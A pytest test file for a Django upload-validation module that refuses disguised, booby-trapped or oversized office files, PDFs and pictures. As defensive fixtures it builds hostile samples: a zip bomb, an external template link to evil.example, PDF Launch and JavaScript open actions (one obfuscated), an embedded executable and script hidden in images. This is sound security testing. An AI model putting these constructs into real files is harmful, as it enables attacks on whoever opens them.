"""Uploads are what their content is; whatever else they are is refused, and nothing is kept."""

import io
import struct
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from msoffcrypto.format.ooxml import OOXMLFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from core.refusals import Refused
from office import files
from office.models import StoredFile
from office.tests import factories as make
from organisations.tests.factories import user

pytestmark = pytest.mark.django_db
XLSX_MAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
EXTERNAL = (
    b'<?xml version="1.0"?><x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<x:Relationship Id="rId1" TargetMode="External" Target="http://evil.example/t.dotm" Type="http://x/attachedTemplate"/>'
    b"</x:Relationships>"
)


def refused(name: str, content: bytes, kind: str) -> str:
    with pytest.raises(Refused) as refusal:
        files.store(upload=(name, content), by=None, kind=kind)
    assert StoredFile.objects.count() == 0
    return str(refusal.value.sentence)


def test_a_workbook_is_kept_under_its_checksum_with_its_author(settings):
    secretary = user()
    content = make.xlsx()
    file = files.store(upload=SimpleUploadedFile("黔西县 名册.xlsx", content), by=secretary, kind="workbook")
    assert (file.name, file.size, file.uploaded_by) == ("黔西县 名册.xlsx", len(content), secretary)
    assert file.media_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert file.path == settings.MEDIA_ROOT / file.sha256[:2] / file.sha256[2:4] / file.sha256
    assert file.path.read_bytes() == content


def test_the_same_content_lies_there_once():
    first, second = (files.store(upload=("a.xlsx", make.xlsx()), by=None, kind="workbook") for _ in range(2))
    assert first.pk != second.pk
    if first.sha256 == second.sha256:
        assert first.path == second.path


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/名册.xlsx", "名册.xlsx"),
        ("C:\\桌面\\名册.xlsx", "名册.xlsx"),
        ("名册\r\nX: y.xlsx", "名册X: y.xlsx"),
        ("名册.jpg", "名册.xlsx"),
        ("七联.互帮", "七联.互帮.xlsx"),
        ("", ".xlsx"),
    ],
)
def test_names_lose_folders_and_end_as_the_content_says(given, kept):
    media_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert files.tidy_name(given, media_type) == (kept if given else "file.xlsx")


@pytest.mark.parametrize(
    ("kind", "name", "content", "found"),
    [
        ("picture", "照片.jpg", b"<!DOCTYPE html><script>alert(1)</script>", "网页"),
        ("picture", "照片.jpg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "网页"),
        ("scan", "协议.pdf", make.docx(), "Word 文档"),
        ("workbook", "名册.xls", b"<html><table><tr><td>1</td></tr></table></html>", "网页"),
        ("workbook", "名册.xlsx", make.docx(), "Word 文档"),
        ("workbook", "名册.xlsx", b"%PDF-1.4 \0", "PDF"),
        ("word", "模板.docx", make.xlsx(), "工作簿"),
        ("word", "模板.docx", b"hello", "纯文本"),
        ("picture", "照片.png", b"\0\1\2\3", "不认识"),
    ],
)
def test_a_wrong_file_is_named_for_what_it_is(kind, name, content, found):
    assert found in refused(name, content, kind)


def test_an_empty_and_a_huge_file_are_refused_by_size(settings):
    assert "空" in refused("a.xlsx", b"", "workbook")
    settings.UPLOAD_MAX_BYTES = 1024**2
    assert "2 MB" in refused("a.xlsx", b"x" * (1024**2 + 1), "workbook")


def test_a_zip_bomb_is_not_opened():
    types = b'<Types><Override ContentType="' + XLSX_MAIN + b'"/></Types>'
    bomb = make.archive(**{"[Content_Types].xml": types, "xl/sheet.xml": b"0" * 80 * 1024**2})
    assert len(bomb) < 200_000
    assert "80 MB" in refused("名册.xlsx", bomb, "workbook")


def test_a_workbook_with_a_password_says_how_to_open_it():
    locked = io.BytesIO()
    OOXMLFile(io.BytesIO(make.xlsx())).encrypt("123456", locked)
    assert "取消密码" in refused("名册.xlsx", locked.getvalue(), "workbook")
    assert "取消密码" in refused("模板.docx", locked.getvalue(), "word")


def test_a_csv_is_a_workbook_of_one_sheet():
    file = files.store(upload=("名册.csv", "序号,村名\n1,野马图村".encode("gb18030")), by=None, kind="workbook")
    assert (file.name, file.media_type) == ("名册.csv", "text/csv")


def test_a_broken_zip_is_damaged():
    assert "损坏" in refused("名册.xlsx", make.xlsx()[:-60], "workbook")


def test_macros_and_what_is_fetched_from_elsewhere_are_refused():
    macro = make.with_part(make.xlsx(), "[Content_Types].xml", b"<Types>" + XLSX_MAIN + b" macroEnabled</Types>")
    assert "宏" in refused("名册.xlsx", macro, "workbook")
    remote = make.with_part(make.docx(), "word/_rels/settings.xml.rels", EXTERNAL)
    assert "外部" in refused("模板.docx", remote, "word")
    entity = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16")
    assert "损坏" in refused("模板.docx", make.with_part(make.docx(), "word/extra.xml", entity), "word")
    embedded = make.with_part(make.docx(), "word/embeddings/oleObject1.bin", b"MZ")
    assert "嵌入" in refused("模板.docx", embedded, "word")


def test_a_picture_loses_the_place_where_it_was_taken():
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (27.0, 1.0, 30.0)}  # position
    exif[0x010E] = "contact 13800001234"
    exif[0x0112] = 6  # lies on its side
    content = make.picture(exif=exif) + b"<script>hidden behind the end</script>"
    file = files.store(upload=("村口.jpeg", content), by=None, kind="picture")
    kept = Image.open(file.path)
    assert (file.name, file.media_type, kept.size) == ("村口.jpg", "image/jpeg", (40, 60))
    assert len(kept.getexif()) == 0
    assert b"script" not in file.path.read_bytes()


def test_a_picture_that_would_fill_the_memory_is_refused():
    header = bytearray(make.picture("PNG"))
    header[16:24] = struct.pack(">II", 30_000, 30_000)
    assert "30000" in refused("大图.png", bytes(header), "picture") or "损坏" in refused(
        "大图.png", bytes(header), "picture"
    )


def test_a_scan_keeps_drawings_sharp_and_harmless_pdfs_unchanged():
    drawing = files.store(upload=("扫描.png", make.picture("PNG", mode="1")), by=None, kind="scan")
    assert drawing.media_type == "image/png"
    content = make.pdf()
    document = files.store(upload=("协议.pdf", content), by=None, kind="scan")
    assert (document.media_type, document.path.read_bytes()) == ("application/pdf", content)


def acting(action: str, **details: str) -> PdfWriter:
    writer = PdfWriter()
    entries: dict[Any, Any] = {NameObject("/S"): NameObject(action)}
    entries |= {NameObject(f"/{key}"): TextStringObject(value) for key, value in details.items()}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(entries))
    return writer


def launching() -> PdfWriter:
    return acting("/Launch", F="calc.exe")


def scripted() -> PdfWriter:
    return acting("/JavaScript", JS="app.alert('hello')")


def attached() -> PdfWriter:
    writer = PdfWriter()
    writer.add_attachment("a.exe", b"MZ")
    return writer


@pytest.mark.parametrize("writer", [launching, scripted, attached])
def test_a_pdf_that_does_something_is_refused(writer):
    assert "自动操作" in refused("协议.pdf", make.pdf(writer()), "scan")


def test_a_disguised_action_is_found():
    content = make.pdf(launching())
    disguised = content.replace(b"/Launch", b"/La#75nch").replace(b"/F (calc", b"/F(calc")
    assert b"/Launch" not in disguised
    assert "自动操作" in refused("协议.pdf", disguised, "scan")


def test_a_broken_pdf_is_damaged():
    assert "损坏" in refused("协议.pdf", b"%PDF-1.4\n1 0 obj\n<<", "scan")


def test_a_file_is_served_so_that_no_browser_runs_it():
    file = files.store(upload=("签字页 1.png", make.picture("PNG", mode="1")), by=None, kind="scan")
    response = files.serve(file)
    assert response.headers["Content-Disposition"] == "attachment; filename*=utf-8''%E7%AD%BE%E5%AD%97%E9%A1%B5%201.png"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response.headers["Cache-Control"] == "private, no-store"
    assert b"".join(response) == file.path.read_bytes()


def test_only_pictures_may_stand_in_a_page():
    png = files.store(upload=("a.png", make.picture("PNG", mode="1")), by=None, kind="scan")
    pdf = files.store(upload=("a.pdf", make.pdf()), by=None, kind="scan")
    dispositions = [files.serve(file, as_attachment=False).headers["Content-Disposition"] for file in (png, pdf)]
    assert dispositions == ['inline; filename="a.png"', 'attachment; filename="a.pdf"']


def test_one_sees_only_own_uploads():
    mine, other = user(), user()
    file = files.store(upload=("a.xlsx", make.xlsx()), by=mine, kind="workbook")
    assert list(StoredFile.objects.visible_to(mine)) == [file]
    assert list(StoredFile.objects.visible_to(other)) == []
